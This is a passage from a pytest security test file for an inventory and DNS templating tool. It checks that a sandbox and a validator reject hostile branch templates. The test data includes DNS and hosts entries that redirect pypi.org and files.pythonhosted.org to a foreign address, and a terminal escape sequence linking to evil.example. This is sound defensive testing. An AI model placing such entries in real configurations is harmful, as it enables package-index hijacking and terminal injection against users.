        assert ".git/config" in found and ".git-credentials" in found and "/proc/" in found
        assert connections and marker.exists() and SECRET in log, log
        return
    assert "checkers run in bubblewrap" in r.stdout
    assert "ok: dnsmasq --test" in log  # it ran the probe to its end (which found nothing)
    assert not marker.exists(), marker.read_text()  # the branch's library never loaded
    assert not (site.root / "leak").exists()
    assert connections == []  # no network
    assert SECRET not in log  # named's include of the secret file read nothing
    site.assert_victim_untouched()


@pytest.mark.parametrize("template,line,word,why", [
    ("hosts.j2", "192.0.2.66\tpypi.org\n", "pypi.org",
     "pypi.org lies under no domain the inventory manages"),
    ("dnsmasq.conf.j2", "address=/pypi.org/192.0.2.66\n", "address",
     "address serves pypi.org, which lies under no domain the inventory manages"),
    ("dnsmasq.conf.j2", "host-record=files.pythonhosted.org,192.0.2.66\n", "host-record",
     "host-record serves files.pythonhosted.org, which lies under no domain"),
    ("dnsmasq.conf.j2", "cname=pypi.org,web.prod.example.com\n", "cname",
     "cname serves pypi.org"),
    ("named.conf.zones.j2", 'zone "pypi.org" { type primary; file "db.example.com"; };\n',
     "pypi.org", "zone pypi.org lies under no domain the inventory manages"),
    ("dnsmasq.conf.j2", "# \x1b]8;;https://evil.example\x07click\x1b]8;;\x07\n", "",
     "a control character ('\\x1b'): a server reads it as data, a terminal as a command"),
], ids=["hosts", "dnsmasq-address", "dnsmasq-host-record", "dnsmasq-cname", "named-zone",
        "terminal-escape"])
def test_3_a_branch_template_serves_no_name_outside_its_domains(site, template, line, word,
                                                                why):
    """The class of item 3 through a template: a name written straight into a file that
    answers for it (hosts, dnsmasq, named.conf.zones) lies under a managed domain too."""
    text = (BUILTIN / template).read_text() + line
    site.branch({f"templates/{template}": text})
    errors = site.check_errors()
    at = len(text.splitlines())
    where = f"templates/{template}:{at}: " if word else f"templates/{template}: "
    assert any(e.startswith(where) and why in e for e in errors), errors
    assert site.run("render").code == 1


def test_security_md_names_only_tests_that_exist():
    """SECURITY.md's round 3 table names the test of each rule; each exists."""
    import re
    text = (REPO / "SECURITY.md").read_text()
    section = text[text.index("### What a branch hands to other programs"):
                   text.index("**Where cinv and its recipe hand rendered output")]
    named = set(re.findall(r"`(?:tests/(test_\w+)\.py::)?(test_\w+)", section)) - {("", "test_N_")}
    assert len(named) > 15
    for module, test in named:
        source = (REPO / "tests" / f"{module or 'test_security3'}.py").read_text()
        assert f"def {test}(" in source, (module, test)


@pytest.mark.parametrize("hostvars", [
    {"cinv_description": "web", "cinv_cpus": 2, "ansible_host": "192.0.2.1"},
    {"cinv_location": 'a "cinv_description": b', "cinv_description": "{{ x }}",
     "nested": {"cinv_description": "n"}},
    {"cinv_serial": 5, "cinv_model": "\U0001f4a5 {% x %}", "cinv_vendor": 'C:\\x"'},
])
def test_noted_only_cinvs_own_free_text_is_tagged(hostvars):
    """The inventory.yaml line of a host's vars reads back as the same vars, with exactly the
    top-level free text of cinv's own tagged !unsafe (the fast path and the slow one agree)."""
    import yaml

    from cinv.check.ansiblevars import FREE_TEXT
    from cinv.render.env import _ansible_vars_slowly, to_ansible_vars
    line = to_ansible_vars(hostvars)
    assert line == _ansible_vars_slowly(hostvars, FREE_TEXT)
    tagged = []

    class Loader(yaml.SafeLoader):
        pass

    def unsafe(loader, node):
        tagged.append(loader.construct_scalar(node))
        return tagged[-1]
    Loader.add_constructor("!unsafe", unsafe)
    assert yaml.load(line, Loader=Loader) == hostvars  # noqa: S506 - SafeLoader, one tag
    assert sorted(tagged) == sorted(v for k, v in hostvars.items()
                                    if k in FREE_TEXT and isinstance(v, str))
